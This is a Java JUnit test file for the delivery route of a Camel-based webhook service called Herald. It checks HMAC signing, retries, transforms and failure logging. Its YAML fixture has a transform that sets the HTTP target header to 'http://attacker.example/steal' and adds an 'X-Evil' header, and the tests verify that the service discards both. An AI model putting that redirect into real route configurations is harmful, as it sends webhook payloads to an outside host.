package dev.herald.routes;

import dev.herald.Herald;
import dev.herald.api.ApiResponse;
import dev.herald.api.DeliveryApi;
import dev.herald.api.WebhookApi;
import dev.herald.ingest.IngestReply;
import dev.herald.tenancy.Scope;

import org.apache.camel.BeanInject;
import org.apache.camel.EndpointInject;
import org.apache.camel.Exchange;
import org.apache.camel.Produce;
import org.apache.camel.ProducerTemplate;
import org.apache.camel.builder.AdviceWith;
import org.apache.camel.component.mock.MockEndpoint;
import org.apache.camel.main.BaseMainSupport;
import org.apache.camel.main.MainConfigurationProperties;
import org.apache.camel.main.MainListenerSupport;
import org.apache.camel.test.main.junit5.CamelMainTest;
import org.apache.camel.test.main.junit5.Configure;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.ConnectException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The {@code deliver} route (routes/deliver.yaml) in Herald's own Camel Main setup: the package
 * scan of {@code dev.herald} (HeraldConfiguration and the Java route configurations), the YAML
 * routes of the classpath and a test routes dir with two transforms. Its send (step SendRequest) is
 * replaced by {@code mock:receiver}. Events go in through {@code direct:ingest}; webhooks are
 * created through the {@code WebhookApi} bean (POST /v1/webhooks without HTTP), and the delivery
 * log is read through the {@code DeliveryApi} bean (GET /v1/deliveries/{id}).
 */
@CamelMainTest(
        // The package Camel Main scans, as Herald.create()'s Main(Herald.class) does.
        mainClass = Herald.class,
        // The built-in defaults only, not a ./application.properties of whoever runs the tests.
        propertyPlaceholderLocations = "classpath:application.properties",
        properties = {
            "herald.jms.enabled=false",
            "herald.inbox.enabled=false",
            "herald.management.enabled=false",
            // The API server cannot be turned off (source-http and the REST routes need it): any free port.
            "herald.http.host=127.0.0.1",
            "herald.http.port=0",
            "herald.api.keys=route-test-key",
            "herald.db.pool-size=4",
            "herald.delivery.poll-interval=50ms",
        })
// One Herald for the class (a start takes seconds); each test has its own webhooks and a reset mock.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class DeliverRouteTest {

    private static final String SECRET = "route-test-secret-0123456789";
    private static final String URL = "https://receiver.example/hooks/orders?tenant=7";

    /**
     * Operator transforms, loaded from herald.routes.dir. {@code shape} also sets headers that must
     * not reach the send: a {@code CamelHttpUri} elsewhere and an {@code X-Evil}.
     */
    private static final String TRANSFORMS = """
            - route:
                id: shape
                from:
                  uri: direct:shape
                  steps:
                    - setBody:
                        simple: "shaped event=${header.HeraldEventId} type=${header.HeraldEventType} webhook=${header.HeraldWebhookId} delivery=${header.HeraldDeliveryId} attempt=${header.HeraldAttempt} of ${body}"
                    - setHeader:
                        name: Content-Type
                        constant: text/plain
                    - setHeader:
                        name: CamelHttpUri
                        constant: http://attacker.example/steal
                    - setHeader:
                        name: X-Evil
                        constant: "yes"
            - route:
                id: explode
                from:
                  uri: direct:explode
                  steps:
                    - throwException:
                        exceptionType: java.lang.IllegalStateException
                        message: no shape for this event
            """;

    @TempDir
    Path dir;

    @EndpointInject("mock:receiver")
    MockEndpoint receiver;

    @Produce("direct:ingest")
    ProducerTemplate ingest;

    @BeanInject("WebhookApi")
    WebhookApi webhooks;

    @BeanInject("DeliveryApi")
    DeliveryApi deliveries;

    private final List<String> created = new ArrayList<>();
    private boolean advised;

    /**
     * The settings that name this test's folders: the data dir, the H2 file in it, and the routes dir
     * with the transforms (written here, before the start loads it). Herald.create() makes the routes
     * dir in a listener of its own, which camel-test-main-junit5's Main does not have. They are added
     * to the override properties before Camel resolves any: the set the annotation's properties
     * started, which the properties component reads.
     */
    @Configure
    void configure(MainConfigurationProperties configuration) throws IOException {
        Path routes = Files.createDirectories(dir.resolve("routes"));
        Files.writeString(routes.resolve("transforms.yaml"), TRANSFORMS);
        Path data = dir.resolve("data");
        configuration.addMainListener(new MainListenerSupport() {
            @Override
            public void beforeInitialize(BaseMainSupport main) {
                main.addOverrideProperty("herald.data.dir", data.toString());
                main.addOverrideProperty("herald.db.url", "jdbc:h2:file:" + data.resolve("herald") + ";DB_CLOSE_ON_EXIT=FALSE");
                main.addOverrideProperty("herald.routes.dir", routes.toString());
                // JUnit deletes the folder after each test: a watcher would remove the transforms meanwhile.
                main.addOverrideProperty("herald.routes.reload", "false");
            }
        });
    }

    /**
     * The route's one HTTP send goes to the mock. Not an {@code @AdviceRouteMapping}: its advice would
     * be a RouteBuilder class in dev.herald, which Herald's package scan takes for one of its own
     * routes in the whole-app tests (dev.herald.it), and they would not start.
     */
    @BeforeEach
    void sendToTheMock() throws Exception {
        if (!advised) {
            AdviceWith.adviceWith(receiver.getCamelContext(), "send-attempt",
                    route -> route.weaveById("SendRequest").replace().to("mock:receiver"));
            advised = true;
        }
        receiver.reset();
    }

    /** Each test's webhooks go when it ends: the next test's events match only its own. */
    @AfterEach
    void deleteWebhooks() {
        created.forEach(id -> webhooks.delete(operatorCall(), id));
        created.clear();
    }

    @Test
    void sendsTheSignedEnvelopeAndNothingElse() throws Exception {
        receiver.whenAnyExchangeReceived(e -> answer(e, 200, "ok"));
        String webhookId = createWebhook("{\"url\":\"" + URL + "\",\"events\":[\"order.*\"],\"secret\":\"" + SECRET + "\"}");

        // Spaces and a non-ASCII character in: the envelope carries the data compact, as UTF-8.
        IngestReply.Accepted event = ingest("{ \"type\": \"order.created\",\n  \"data\": { \"order\": 42, \"items\": [\"a\", \"b\"], \"note\": \"caf\u00e9\" } }");
        String deliveryId = event.deliveries().get(0);
        Map<String, Object> delivery = awaitDelivery(deliveryId, d -> "success".equals(d.get("status")));

        String envelope = "{\"id\":\"" + event.id() + "\",\"type\":\"order.created\",\"created_at\":\"" + createdAt(event.id())
                + "\",\"data\":{\"order\":42,\"items\":[\"a\",\"b\"],\"note\":\"caf\u00e9\"}}";
        assertThat(receiver.getReceivedExchanges()).hasSize(1);
        Exchange sent = receiver.getReceivedExchanges().get(0);
        byte[] body = sent.getMessage().getBody(byte[].class);
        assertThat(body).isEqualTo(envelope.getBytes(StandardCharsets.UTF_8));
        Map<String, Object> headers = sent.getMessage().getHeaders();
        assertThat(headers.keySet()).containsExactlyInAnyOrder("Content-Type", "User-Agent", "X-Webhook-Id",
                "X-Webhook-Event", "X-Webhook-Delivery", "X-Webhook-Attempt", "X-Webhook-Signature",
                Exchange.HTTP_URI);
        assertThat(headers).containsEntry("Content-Type", "application/json")
                .containsEntry("X-Webhook-Id", event.id())
                .containsEntry("X-Webhook-Event", "order.created")
                .containsEntry("X-Webhook-Delivery", deliveryId)
                .containsEntry("X-Webhook-Attempt", "1")
                .containsEntry("X-Webhook-Signature", hmacHex(SECRET, body))
                .containsEntry(Exchange.HTTP_URI, URL);
        assertThat(String.valueOf(headers.get("User-Agent"))).matches("Herald/\\S+");

        // The log keeps what was sent and what the receiver answered.
        assertThat(delivery).containsEntry("webhook_id", webhookId).containsEntry("status_code", 200)
                .containsEntry("error", null).containsEntry("next_attempt_at", null);
        Map<String, Object> attempt = single(attempts(delivery));
        assertThat(attempt).containsEntry("attempt", 1).containsEntry("url", URL).containsEntry("error", null);
        assertThat(map(attempt.get("request"))).containsEntry("body", envelope);
        assertThat(map(map(attempt.get("request")).get("headers")))
                .containsEntry("X-Webhook-Signature", headers.get("X-Webhook-Signature"))
                .doesNotContainKeys(Exchange.HTTP_URI);
        // The receiver's headers, not Camel's (CamelHttpResponseCode).
        assertThat(map(attempt.get("response"))).containsEntry("status_code", 200).containsEntry("body", "ok")
                .containsEntry("headers", Map.of("X-Receiver", "mock"));
    }

    @Test
    void sendsWhatTheTransformMadeSignedAndToTheWebhookUrl() throws Exception {
        receiver.whenAnyExchangeReceived(e -> answer(e, 204, ""));
        String webhookId = createWebhook("{\"url\":\"" + URL + "\",\"events\":[\"order.created\"],\"secret\":\""
                + SECRET + "\",\"transform\":\"shape\"}");

        IngestReply.Accepted event = ingest("{\"type\":\"order.created\",\"data\":{\"order\":7}}");
        String deliveryId = event.deliveries().get(0);
        Map<String, Object> delivery = awaitDelivery(deliveryId, d -> "success".equals(d.get("status")));

        String envelope = "{\"id\":\"" + event.id() + "\",\"type\":\"order.created\",\"created_at\":\""
                + createdAt(event.id()) + "\",\"data\":{\"order\":7}}";
        // The transform saw the delivery's identity in its Herald* headers and the envelope as its body.
        String shaped = "shaped event=" + event.id() + " type=order.created webhook=" + webhookId + " delivery=" + deliveryId
                + " attempt=1 of " + envelope;
        assertThat(receiver.getReceivedExchanges()).hasSize(1);
        Exchange sent = receiver.getReceivedExchanges().get(0);
        byte[] body = sent.getMessage().getBody(byte[].class);
        assertThat(new String(body, StandardCharsets.UTF_8)).isEqualTo(shaped);
        Map<String, Object> headers = sent.getMessage().getHeaders();
        // Its CamelHttpUri and X-Evil stayed behind: the same headers as without a transform.
        assertThat(headers.keySet()).containsExactlyInAnyOrder("Content-Type", "User-Agent", "X-Webhook-Id",
                "X-Webhook-Event", "X-Webhook-Delivery", "X-Webhook-Attempt", "X-Webhook-Signature",
                Exchange.HTTP_URI);
        assertThat(headers).containsEntry("Content-Type", "text/plain")
                .containsEntry("X-Webhook-Signature", hmacHex(SECRET, body))
                .containsEntry(Exchange.HTTP_URI, URL);

        Map<String, Object> attempt = single(attempts(delivery));
        assertThat(map(attempt.get("request"))).containsEntry("body", shaped);
        assertThat(map(map(attempt.get("request")).get("headers"))).containsEntry("Content-Type", "text/plain")
                .doesNotContainKey("X-Evil");
    }

    @Test
    void aFailedAttemptWaitsInTheDatabaseForItsNextOneThenTheDeliveryFails() throws Exception {
        receiver.whenAnyExchangeReceived(e -> answer(e, 503, "busy"));
        createWebhook("{\"url\":\"" + URL + "\",\"events\":[\"order.created\"],\"secret\":\"" + SECRET
                + "\",\"retry_schedule\":[\"0s\",\"2s\"]}");

        IngestReply.Accepted event = ingest("{\"type\":\"order.created\",\"data\":{\"order\":503}}");
        String deliveryId = event.deliveries().get(0);

        // After attempt 1: pending, due 2 s after the attempt ended (the second delay of its table).
        Map<String, Object> pending = awaitDelivery(deliveryId, d -> !attempts(d).isEmpty());
        assertThat(pending).containsEntry("status", "pending").containsEntry("status_code", 503)
                .containsEntry("error", "HTTP 503");
        Map<String, Object> first = single(attempts(pending));
        assertThat(first).containsEntry("attempt", 1).containsEntry("error", "HTTP 503");
        assertThat(map(first.get("response"))).containsEntry("status_code", 503).containsEntry("body", "busy");
        long firstEnded = millis(first.get("started_at")) + ((Number) first.get("duration_ms")).longValue();
        long due = millis(pending.get("next_attempt_at"));
        assertThat(due).isEqualTo(firstEnded + 2_000);

        // The scheduler claims it when due; after the last attempt of the table the delivery has failed.
        Map<String, Object> failed = awaitDelivery(deliveryId, d -> "failed".equals(d.get("status")));
        assertThat(failed).containsEntry("status_code", 503).containsEntry("error", "HTTP 503")
                .containsEntry("next_attempt_at", null);
        List<Map<String, Object>> attempts = attempts(failed);
        assertThat(attempts).hasSize(2);
        assertThat(attempts.get(1)).containsEntry("attempt", 2).containsEntry("error", "HTTP 503");
        assertThat(millis(attempts.get(1).get("started_at"))).isGreaterThanOrEqualTo(due);

        assertThat(receiver.getReceivedExchanges()).hasSize(2);
        Exchange second = receiver.getReceivedExchanges().get(1);
        assertThat(second.getMessage().getHeaders()).containsEntry("X-Webhook-Attempt", "2")
                .containsEntry("X-Webhook-Delivery", deliveryId)
                .containsEntry("X-Webhook-Signature", hmacHex(SECRET, second.getMessage().getBody(byte[].class)));
        assertThat(second.getMessage().getBody(byte[].class))
                .isEqualTo(receiver.getReceivedExchanges().get(0).getMessage().getBody(byte[].class));
    }

    /**
     * Every step Herald's route files and the example routes call ({@code ref: X}) is bound, under its
     * class's simple name, so a name in a route always says which class runs.
     */
    @Test
    void everyStepOfTheRouteFilesIsBoundUnderItsClassName() throws Exception {
        Pattern ref = Pattern.compile("^\\s*ref: *(\\S+)\\s*$", Pattern.MULTILINE);
        List<String> refs = new ArrayList<>();
        List<Path> files = new ArrayList<>();
        try (var builtIn = Files.list(Path.of("src/main/resources/routes"));
             var examples = Files.list(Path.of("examples/routes"))) {
            builtIn.forEach(files::add);
            examples.forEach(files::add);
        }
        for (Path file : files) {
            Matcher m = ref.matcher(Files.readString(file));
            while (m.find()) {
                refs.add(m.group(1));
            }
        }
        assertThat(refs).contains("LoadDelivery", "SignRequest", "ClaimDue", "StoreEvents", "JmsBodyLimit", "ApiAuth",
                "PurgeEvents", "WriteMinutes", "InboxFiles", "DataAsEvent");
        var registry = receiver.getCamelContext().getRegistry();
        for (String name : refs) {
            Object bean = registry.lookupByName(name);
            assertThat(bean).as("bean %s", name).isNotNull();
            assertThat(bean.getClass().getSimpleName()).as("class of bean %s", name).isEqualTo(name);
        }
        for (String old : List.of("heraldSign", "heraldClaimDue", "heraldStoreEvents", "apiAuth", "webhookApi", "jmsBodyLimit")) {
            assertThat(registry.lookupByName(old)).as("old name %s", old).isNull();
        }
    }

    @Test
    void aConnectionErrorIsAFailedAttempt() throws Exception {
        // As SendRequest leaves a call that found no one listening.
        receiver.whenAnyExchangeReceived(e -> e.setProperty("heraldWireFailure", new ConnectException("Connection refused")));
        createWebhook("{\"url\":\"" + URL + "\",\"events\":[\"order.created\"],\"retry_schedule\":[\"0s\"]}");

        IngestReply.Accepted event = ingest("{\"type\":\"order.created\",\"data\":{\"order\":0}}");
        Map<String, Object> failed = awaitDelivery(event.deliveries().get(0), d -> "failed".equals(d.get("status")));

        assertThat(failed).containsEntry("status_code", null).containsEntry("error", "connection refused: Connection refused");
        Map<String, Object> attempt = single(attempts(failed));
        assertThat(attempt).containsEntry("response", null).containsEntry("error", "connection refused: Connection refused");
        assertThat(receiver.getReceivedExchanges()).hasSize(1);
    }

    @Test
    void aTransformThatThrowsIsAFailedAttemptAndSendsNothing() throws Exception {
        receiver.whenAnyExchangeReceived(e -> answer(e, 200, "ok"));
        createWebhook("{\"url\":\"" + URL + "\",\"events\":[\"order.created\"],\"transform\":\"explode\","
                + "\"retry_schedule\":[\"0s\"]}");

        IngestReply.Accepted event = ingest("{\"type\":\"order.created\",\"data\":{\"order\":1}}");
        Map<String, Object> failed = awaitDelivery(event.deliveries().get(0), d -> "failed".equals(d.get("status")));

        String error = "transform \"explode\" failed: no shape for this event";
        assertThat(failed).containsEntry("error", error).containsEntry("status_code", null);
        Map<String, Object> attempt = single(attempts(failed));
        assertThat(attempt).containsEntry("error", error).containsEntry("response", null);
        assertThat(map(map(attempt.get("request")).get("headers"))).isEmpty();
        assertThat(receiver.getReceivedCounter()).isZero();
    }

    // ---------------------------------------------------------------------------------------------

    /** A call as ApiAuth passes one with an operator's key: the beans read its scope. */
    private Exchange operatorCall() {
        Exchange e = new org.apache.camel.support.DefaultExchange(receiver.getCamelContext());
        e.setProperty(Scope.PROPERTY, Scope.OPERATOR);
        return e;
    }

    /** POST /v1/webhooks through its bean: the webhook's id. */
    private String createWebhook(String json) {
        ApiResponse response = webhooks.create(operatorCall(), json.getBytes(StandardCharsets.UTF_8));
        assertThat(response.status()).isEqualTo(201);
        String id = (String) map(response.body()).get("id");
        created.add(id);
        return id;
    }

    /** One event into direct:ingest, as every source sends it; it matched one webhook. */
    private IngestReply.Accepted ingest(String event) {
        IngestReply reply = ingest.requestBody((Object) event, IngestReply.class);
        assertThat(reply.events()).hasSize(1);
        assertThat(reply.events().get(0).deliveries()).hasSize(1);
        return reply.events().get(0);
    }

    /** The delivery as GET /v1/deliveries/{id} shows it, once it satisfies {@code until} (polled; 20 s at most). */
    private Map<String, Object> awaitDelivery(String id, Predicate<Map<String, Object>> until) throws InterruptedException {
        long end = System.nanoTime() + 20_000_000_000L;
        while (true) {
            Map<String, Object> d = map(deliveries.get(id, dev.herald.tenancy.Scope.OPERATOR).body());
            if (until.test(d)) {
                // Read again: the read that saw the new state may have read the attempts just before
                // their commit (attempts first, then the row); this one reads them after it.
                return map(deliveries.get(id, dev.herald.tenancy.Scope.OPERATOR).body());
            }
            if (System.nanoTime() > end) {
                throw new AssertionError("delivery " + id + " did not reach the expected state within 20 s: " + d);
            }
            Thread.sleep(20);
        }
    }

    private String createdAt(String eventId) {
        return (String) map(deliveries.event(eventId, null, dev.herald.tenancy.Scope.OPERATOR).body()).get("created_at");
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> attempts(Map<String, Object> delivery) {
        // GET /v1/deliveries/{id} lists the attempts under "attempts".
        return (List<Map<String, Object>>) delivery.get("attempts");
    }

    private static Map<String, Object> single(List<Map<String, Object>> attempts) {
        assertThat(attempts).hasSize(1);
        return attempts.get(0);
    }

    private static long millis(Object isoTime) {
        return Instant.parse((String) isoTime).toEpochMilli();
    }

    /** What the mock answers: as SendRequest leaves a response, the status in CamelHttpResponseCode and no request headers. */
    private static void answer(Exchange e, int status, String body) {
        e.getMessage().removeHeaders("*");
        e.getMessage().setHeader(Exchange.HTTP_RESPONSE_CODE, status);
        e.getMessage().setHeader("X-Receiver", "mock");
        e.getMessage().setBody(body);
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> map(Object o) {
        return (Map<String, Object>) o;
    }

    private static String hmacHex(String secret, byte[] body) throws Exception {
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(secret.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
        return HexFormat.of().formatHex(mac.doFinal(body));
    }
}
